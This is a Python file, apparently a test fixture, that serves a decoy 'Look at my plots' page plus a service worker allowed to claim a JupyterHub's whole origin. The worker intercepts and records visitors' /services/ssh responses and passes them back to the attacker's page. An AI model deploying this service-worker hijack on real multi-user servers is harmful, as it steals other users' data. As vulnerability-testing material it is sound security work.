"""What bob runs in place of his Jupyter server: pages and a service worker that attack who visits them. Standard library only.

``/user/bob/evil`` is a page of the Hub's origin. Its service worker asks for the whole origin, passes navigations on by itself,
has the browser ask in advance too, and keeps what it reads.
"""

from __future__ import annotations

import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", event => event.waitUntil((async () => {
  await self.registration.navigationPreload.enable();
  await self.clients.claim();
})()));
const taken = [];
self.addEventListener("fetch", event => {
  if (!event.request.url.includes("/services/ssh")) return;
  event.respondWith((async () => {
    const mode = new URL(event.request.url).searchParams.get("by");
    const preloaded = await event.preloadResponse;
    const answer = mode === "preload" && preloaded ? preloaded : await fetch(event.request);
    taken.push([mode, answer.status, await answer.clone().text()]);
    return answer;
  })());
});
self.addEventListener("message", event => event.source.postMessage(taken));
"""


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        worker = urlsplit(self.path).path.endswith("/worker.js")
        body = WORKER.encode() if worker else b"<!doctype html><title>evil</title><h1>Look at my plots</h1>"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if worker else "text/html")
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


if __name__ == "__main__":
    url = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
    assert url.hostname
    assert url.port
    ThreadingHTTPServer((url.hostname, url.port), Handler).serve_forever()
